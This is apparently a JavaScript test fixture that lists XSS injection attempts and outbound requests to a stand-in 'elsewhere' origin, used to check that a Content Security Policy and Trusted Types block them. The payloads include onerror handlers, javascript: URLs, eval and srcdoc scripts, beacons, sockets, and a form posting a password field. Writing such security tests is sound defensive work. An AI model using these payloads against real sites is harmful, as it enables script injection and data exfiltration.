// @ts-check
/** @typedef {{ what: string, markup?: string, act?: (elsewhere: string) => unknown, sink?: boolean }} Attempt
 * `sink`: Trusted Types must refuse it, whatever else would refuse it later. */

/** Stands for the page's own function, which reports that something ran.
 * @param {string} what */
const ran = (what) => {
  throw new Error(what);
};

const press = () => {
  for (const element of document.querySelectorAll('.planted')) {
    if (element instanceof HTMLFormElement) element.requestSubmit();
    else if (element instanceof HTMLElement) element.click();
  }
};

/** Planted in the document itself, as by a server that forgets to escape.
 * @param {string} elsewhere
 * @returns {Attempt[]} */
export const inTheDocument = (elsewhere) => [
  { what: 'an inline script', markup: "<script>ran('script')</script>" },
  { what: 'a script with a nonce of its own', markup: '<script nonce="abc">ran("nonce")</script>' },
  { what: 'an event handler', markup: `<img src="data:," onerror="ran('handler')">` },
  { what: 'an event handler of a drawing', markup: `<svg onload="ran('drawing')"></svg>` },
  {
    what: 'a link to javascript:',
    markup: `<a class="planted" href="javascript:ran('link')">x</a>`,
    act: press,
  },
  {
    what: 'a form to javascript:',
    markup: `<form class="planted" action="javascript:ran('form')"></form>`,
    act: press,
  },
  { what: 'a script from elsewhere', markup: `<script src="${elsewhere}/a.js"></script>` },
  { what: 'a module from elsewhere', markup: `<script type="module" src="${elsewhere}/a.js"></script>` },
  { what: 'a script in a data: address', markup: `<script src="data:text/javascript,ran('data')"></script>` },
  { what: 'a base address', markup: `<base href="${elsewhere}/"><img src="based">` },
  { what: 'an object', markup: `<object data="${elsewhere}/object"></object>` },
  { what: 'an embedded document', markup: `<embed src="${elsewhere}/embed">` },
  { what: 'a frame', markup: `<iframe src="${elsewhere}/frame"></iframe>` },
  { what: 'a frame with a script in it', markup: `<iframe srcdoc="<script>ran('frame')</script>"></iframe>` },
  { what: 'a style from elsewhere', markup: `<link rel="stylesheet" href="${elsewhere}/a.css">` },
  {
    what: 'a style that asks elsewhere',
    markup: `<style>html { background: url(${elsewhere}/leak) }</style>`,
  },
  { what: 'a picture from elsewhere', markup: `<img src="${elsewhere}/pixel">` },
  {
    what: 'a form to elsewhere',
    markup: `<form class="planted" method="post" action="${elsewhere}/form"><input name="password" value="x"></form>`,
    act: press,
  },
];

/** Run by a script of the page itself that has received a hostile text.
 * @type {Attempt[]} */
export const inScripts = [
  {
    what: 'innerHTML',
    sink: true,
    act: () => {
      document.body.appendChild(document.createElement('div')).innerHTML =
        `<img src="data:," onerror="ran('x')">`;
    },
  },
  {
    what: 'outerHTML',
    sink: true,
    act: () => {
      document.body.appendChild(document.createElement('div')).outerHTML =
        `<img src="data:," onerror="ran('x')">`;
    },
  },
  {
    what: 'insertAdjacentHTML',
    sink: true,
    act: () => document.body.insertAdjacentHTML('beforeend', `<img src="data:," onerror="ran('x')">`),
  },
  {
    what: 'a fragment from a range',
    sink: true,
    act: () =>
      document.body.append(document.createRange().createContextualFragment("<script>ran('x')</script>")),
  },
  {
    what: 'a parsed document',
    sink: true,
    act: () =>
      document.body.append(
        ...new DOMParser().parseFromString(`<img src="data:," onerror="ran('x')">`, 'text/html').body
          .children,
      ),
  },
  {
    what: 'srcdoc',
    sink: true,
    act: () => {
      document.body.appendChild(document.createElement('iframe')).srcdoc = "<script>ran('x')</script>";
    },
  },
  {
    what: 'the text of a script',
    sink: true,
    act: () => {
      const script = document.createElement('script');
      script.text = "ran('x')";
      document.body.append(script);
    },
  },
  {
    what: 'the address of a script',
    sink: true,
    act: (elsewhere) => {
      const script = document.createElement('script');
      script.src = `${elsewhere}/a.js`;
      document.body.append(script);
    },
  },
  {
    what: 'an attribute with a handler',
    sink: true,
    act: () => {
      document.body.setAttribute('onclick', "ran('x')");
      document.body.click();
    },
  },
  // biome-ignore lint/security/noGlobalEval: this is the attack
  { what: 'eval', act: () => eval("ran('x')") },
  { what: 'a function from a text', act: () => new Function("ran('x')")() },
  { what: 'a timer with a text', sink: true, act: () => setTimeout("ran('x')") },
  {
    what: 'an import from data:',
    act: () => import(/* @vite-ignore */ /** @type {any} */ ("data:text/javascript,ran('x')")),
  },
  { what: 'an import from elsewhere', act: (elsewhere) => import(`${elsewhere}/a.js`) },
  {
    what: 'a worker from a text',
    sink: true,
    act: () => {
      const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));
      worker.onmessage = () => ran('worker');
    },
  },
  {
    what: 'WebAssembly in the page',
    act: async () => {
      await WebAssembly.compile(Uint8Array.of(0, 97, 115, 109, 1, 0, 0, 0));
      ran('wasm');
    },
  },
  {
    what: 'a second policy for markup',
    sink: true,
    act: () => {
      Reflect.get(window, 'trustedTypes').createPolicy('evil', { createHTML: String });
      ran('policy');
    },
  },
  { what: 'fetch to elsewhere', act: (elsewhere) => fetch(`${elsewhere}/fetch`) },
  { what: 'a beacon to elsewhere', act: (elsewhere) => navigator.sendBeacon(`${elsewhere}/beacon`, 'x') },
  { what: 'events from elsewhere', act: (elsewhere) => void new EventSource(`${elsewhere}/events`) },
  {
    what: 'a socket to elsewhere',
    act: (elsewhere) => void new WebSocket(`${elsewhere.replace('http', 'ws')}/socket`),
  },
  {
    what: 'a picture to elsewhere',
    act: (elsewhere) => {
      new Image().src = `${elsewhere}/pixel`;
    },
  },
  {
    what: 'a base element',
    act: (elsewhere) => {
      document.head.appendChild(document.createElement('base')).href = `${elsewhere}/`;
      if (document.baseURI.startsWith(elsewhere)) ran('base');
    },
  },
  { what: 'document.write', sink: true, act: () => document.write("<script>ran('x')</script>") },
  {
    what: 'the address javascript:',
    act: () => {
      location.href = "javascript:ran('x')";
    },
  },
];
